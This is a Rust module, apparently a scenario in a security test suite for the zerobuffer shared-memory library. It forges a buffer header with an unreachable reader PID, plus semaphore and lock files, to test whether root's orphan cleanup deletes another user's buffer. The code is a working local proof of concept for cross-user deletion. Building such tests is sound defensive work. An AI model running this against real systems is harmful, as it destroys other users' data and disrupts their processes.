//! S4: what root's clean does to a buffer of another user, whose reader lives where root cannot see
//! its number.

use crate::attack::Target;
use anyhow::Result;
use std::{fs, path::Path, thread, time::Duration};
use zerobuffer::{BufferConfig, Reader, observe};

const BUFFER: &str = "/dev/shm/theirs";
/// Written by the other user when all of it is there.
const READY: &str = "/tmp/ready";
/// The number of the reader in its own pid namespace: nobody has it here.
const PID: u64 = 0x7fff_ffff;

/// The folders of the lock files as a reader of root's has made them: everybody may use them.
pub(crate) fn prepare() -> Result<()> {
    Reader::create("first", BufferConfig::ring(64))?.close()?;
    Ok(())
}

pub(crate) fn clean(target: &Target) -> Result<()> {
    crate::stage::until_there(READY);
    while target.is_open() {
        for orphan in observe::orphans()? {
            let _ = observe::remove(&orphan);
        }
        thread::sleep(Duration::from_millis(50));
    }
    Ok(())
}

pub(crate) fn make(_: u64) -> Result<()> {
    let mut buffer = vec![0; 128 + 64 + 1024];
    let words = [(0, 128 | 1 << 32), (8, 64_u64), (16, 64), (32, 1024), (40, 1024), (88, PID)];
    for (offset, value) in words {
        if let Some(word) = buffer.get_mut(offset..offset + 8) {
            word.copy_from_slice(&value.to_le_bytes());
        }
    }
    let mut semaphore = vec![0; 32];
    if let Some(shared) = semaphore.get_mut(8) {
        *shared = 128;
    }
    for (path, bytes) in [
        ("/dev/shm/sem.sem-w-theirs", semaphore.as_slice()),
        ("/dev/shm/sem.sem-r-theirs", &semaphore),
        ("/tmp/zerobuffer/theirs.lock", &[]),
        ("/tmp/zerobuffer/locks/theirs.lock", &[]),
        (BUFFER, &buffer),
        (READY, &[]),
    ] {
        fs::write(path, bytes)?;
    }
    loop {
        thread::sleep(Duration::from_secs(1));
    }
}

pub(crate) fn buffer_was_removed() -> Option<String> {
    (Path::new(READY).exists() && !Path::new(BUFFER).exists()).then(|| format!("{BUFFER} is gone"))
}
